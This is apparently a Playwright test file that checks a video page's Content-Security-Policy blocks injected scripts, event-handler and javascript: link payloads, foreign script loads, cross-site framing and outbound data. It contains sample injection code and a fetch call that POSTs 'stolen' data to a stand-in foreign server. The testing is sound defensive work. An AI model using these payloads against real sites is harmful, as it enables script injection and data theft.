"""The page under its Content-Security-Policy: what it does passes, and what is put into it does nothing."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.page import READY_WITHIN_MS, VideoPage
from tests.support.doubles import faulty_servers
from tests.support.media import corpus
from tests.support.system.client import Client

# Records what the policy keeps the page from, and goes on through every navigation.
_RECORD = """
window.violations = [];
document.addEventListener('securitypolicyviolation', (event) =>
  window.violations.push([event.effectiveDirective, event.blockedURI]));
"""
# Puts a script into the page in each way that an injection of markup has.
_INJECT = """() => {
  window.ran = [];
  const script = document.createElement('script');
  script.textContent = "window.ran.push('inline')";
  const handler = document.createElement('img');
  handler.setAttribute('onerror', "window.ran.push('handler')");
  handler.src = 'data:,';
  const link = document.createElement('a');
  link.href = "javascript:window.ran.push('link')";
  document.body.append(script, handler, link);
  link.click();
}"""
_SEND = (
    "url => fetch(url, { method: 'POST', mode: 'no-cors', body: 'stolen' }).then(() => 'sent', () => 'kept')"
)


@pytest.fixture
def elsewhere(tmp_path: Path) -> Iterator[str]:
    """A server of somebody else, which takes whatever it is sent."""
    (tmp_path / "frame.html").write_text("<!doctype html>")
    (tmp_path / "script.js").write_text("window.ran.push('foreign')")
    with faulty_servers.site(tmp_path) as url:
        yield url


@pytest.fixture
def recorded(page: VideoPage) -> VideoPage:
    page.browser.add_init_script(_RECORD)
    page.browser.reload()
    return page


def violations(page: Page) -> list[list[str]]:
    found: list[list[str]] = page.evaluate("window.violations")
    return found


@pytest.mark.parametrize("name", ["bigbuckbunny.mp4"])
def test_uploading_watching_and_playing_violate_nothing(recorded: VideoPage, name: str) -> None:
    recorded.choose(corpus.file(name))
    recorded.expect_row("Play", within_ms=READY_WITHIN_MS)
    recorded.press("Play")
    recorded.wait_for_media("readyState >= 2")
    recorded.browser.evaluate("document.getElementById('video').play()")
    recorded.wait_for_media("currentTime > 0.5")

    assert violations(recorded.browser) == []


def test_a_script_that_is_put_into_the_page_does_not_run(recorded: VideoPage, elsewhere: str) -> None:
    recorded.expect_console_errors("Content Security Policy", "Refused to", "net::ERR_")
    recorded.browser.evaluate(_INJECT)
    recorded.browser.evaluate(
        "url => document.head.append(Object.assign(document.createElement('script'), {src: url}))",
        f"{elsewhere}/script.js",
    )
    recorded.browser.wait_for_timeout(500)

    assert recorded.browser.evaluate("window.ran") == []
    blocked = {directive for directive, _ in violations(recorded.browser)}
    assert {"script-src-elem", "script-src-attr"} <= blocked


def test_the_page_sends_nothing_to_anybody_else(recorded: VideoPage, elsewhere: str) -> None:
    recorded.expect_console_errors("Content Security Policy", "Refused to", "net::ERR_")

    assert recorded.browser.evaluate(_SEND, elsewhere) == "kept"
    assert recorded.browser.evaluate(_SEND, elsewhere.replace("127.0.0.1", "localhost")) == "kept"
    assert {directive for directive, _ in violations(recorded.browser)} == {"connect-src"}


def test_no_other_site_frames_the_page(chromium: Browser, client: Client, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text(f"<!doctype html><iframe src='{client.base_url}/'></iframe>")
    with faulty_servers.site(tmp_path) as url:
        page = chromium.new_page()
        page.goto(url, wait_until="load")
        [frame] = page.main_frame.child_frames

        assert frame.locator("#files").count() == 0
        assert frame.url.startswith("chrome-error:")
        page.close()
